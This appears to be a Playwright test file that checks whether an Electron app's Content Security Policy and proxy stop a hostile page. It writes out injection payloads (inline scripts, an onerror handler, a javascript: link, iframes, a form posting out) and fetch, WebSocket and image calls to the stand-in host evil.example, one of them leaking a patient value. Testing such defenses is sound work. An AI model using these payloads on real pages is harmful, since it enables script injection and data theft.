// A hostile page under the policy that the window gets: what the proxy hands on is shown in Chromium, which enforces it.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { CONTENT_SECURITY_POLICY } from '../../core/service/security-headers.ts';
import { createProxy } from '../../electron/proxy.ts';
import { describeInChromium, launchChromium } from '../support/chromium.ts';
import { openSocketHost, type SocketHost } from './support/socket-host.ts';

/** Each tries to reach something outside, or to run what came as text. It ends well only when it was let. */
const ATTEMPTS: Record<string, string> = {
  eval: `eval('1')`,
  'function of text': `new Function('return 1')()`,
  'timer of text': `setTimeout('window.timed = true'); await new Promise((resolve) => setTimeout(resolve, 20)); if (!window.timed) throw 0`,
  fetch: `await fetch('https://evil.example/', { mode: 'no-cors' })`,
  'fetch of this computer': `await fetch('http://127.0.0.1:9/', { mode: 'no-cors' })`,
  'web socket': `await opened(new WebSocket('wss://evil.example/'), 'open')`,
  'event source': `await opened(new EventSource('https://evil.example/'), 'open')`,
  'worker of text': `await opened(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), 'message')`,
  'script of text': `await loaded('script', { src: 'data:text/javascript,1' })`,
  'remote script': `await loaded('script', { src: 'https://evil.example/a.js' })`,
  'remote module': `await import('https://evil.example/module.js')`,
  'remote style': `await loaded('link', { rel: 'stylesheet', href: 'https://evil.example/style.css' })`,
  'remote picture': `await loaded('img', { src: 'https://evil.example/?patient=1' })`,
};

/** The page's own script, which makes these attempts in turn and keeps what came of them. */
function script(attempts: readonly string[]): string {
  return `
const opened = (target, good) => new Promise((resolve, reject) => {
  target.addEventListener(good, resolve);
  target.addEventListener('error', reject);
});
const loaded = (tag, attributes) => {
  const element = Object.assign(document.createElement(tag), attributes);
  const done = opened(element, 'load');
  document.head.append(element);
  return done;
};
const attempts = { ${attempts.map((name) => `'${name}': async () => { ${ATTEMPTS[name] ?? ''} }`).join(', ')} };
(async () => {
  const allowed = [];
  for (const [name, attempt] of Object.entries(attempts)) await attempt().then(() => allowed.push(name), () => undefined);
  const ran = ['inline', 'handler', 'remote', 'walked', 'framed'].filter((name) => name in window);
  window.result = { allowed, ran, base: document.baseURI };
})();`;
}

/** What a page might contain if someone could write into it. */
const PAGE = `<!doctype html><base href="https://evil.example/"><title>page</title>
<script>window.inline = true</script>
<script src="https://evil.example/remote.js"></script>
<style>body { background: url(https://evil.example/style.png) }</style>
<img src="x:" onerror="window.handler = true">
<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>parent.framed = true</script>"></iframe>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<form action="https://evil.example/form" method="post"><button id="sender">x</button></form>
<a id="walker" href="javascript:window.walked=true">x</a>
<script src="/own.js"></script>`;

describeInChromium('a hostile page', () => {
  let host: SocketHost;
  let bridge: Server;
  let browser: Browser;
  let address = '';
  const asked = new Set<string>();

  beforeAll(async () => {
    host = await openSocketHost(({ url }, response) => {
      const type = url === '/' ? 'text/html' : 'text/javascript';
      response
        .writeHead(200, { 'content-type': type, 'content-security-policy': CONTENT_SECURITY_POLICY })
        .end(url === '/' ? PAGE : script(Object.keys(ATTEMPTS)));
    });
    const proxy = createProxy(host);
    // Chromium by itself does not know our scheme: plain HTTP takes its place.
    bridge = createServer(({ url = '/' }, response) => {
      void proxy(new Request(`tessera://app${url}`)).then(async (answer) => {
        response.writeHead(answer.status, Object.fromEntries(answer.headers)).end(Buffer.from(await answer.arrayBuffer()));
      });
    });
    await new Promise<void>((resolve) => void bridge.listen(0, '127.0.0.1', resolve));
    address = `http://127.0.0.1:${(bridge.address() as AddressInfo).port}/`;
    browser = await launchChromium();
  });

  afterAll(async () => {
    await browser.close();
    bridge.closeAllConnections();
    bridge.close();
    await host.close();
  });

  it('runs none of its texts and reaches nothing outside', async () => {
    const page = await browser.newPage();
    // Were a request let out, it would be answered: what is stopped is stopped by the policy.
    await page.route(/evil\.example|127\.0\.0\.1:9\//, (route) => {
      asked.add(route.request().url());
      return route.fulfill({ body: 'window.remote = true', contentType: 'text/javascript' });
    });
    await page.goto(address);
    expect(await resultOf(page)).toEqual({ allowed: [], ran: [], base: address });
    // Playwright's own click would wait for where they lead.
    await page.evaluate(`document.getElementById('sender').click(); document.getElementById('walker').click()`);
    await page.evaluate(`new Promise((resolve) => setTimeout(resolve))`);
    expect(await page.evaluate(() => 'walked' in globalThis)).toBe(false);
    expect([...asked]).toEqual([]);
    expect(page.url()).toBe(address);
  });

  it('would have done both without it', async () => {
    const attempts = [
      'eval',
      'function of text',
      'timer of text',
      'fetch',
      'worker of text',
      'script of text',
      'remote script',
      'remote module',
    ];
    const page = await (await browser.newContext({ bypassCSP: true })).newPage();
    await page.route(/evil\.example/, (route) => {
      const isOwn = route.request().url().endsWith('/own.js');
      const headers = { 'access-control-allow-origin': '*' };
      return route.fulfill({ body: isOwn ? script(attempts) : 'window.remote = true', contentType: 'text/javascript', headers });
    });
    await page.goto(address);
    expect(await resultOf(page)).toEqual({
      allowed: attempts,
      ran: ['inline', 'handler', 'remote', 'framed'],
      base: 'https://evil.example/',
    });
  });
});

async function resultOf(page: Page): Promise<unknown> {
  const result = await page.waitForFunction(() => (globalThis as { result?: unknown }).result, undefined, { timeout: 100_000 });
  return result.jsonValue();
}
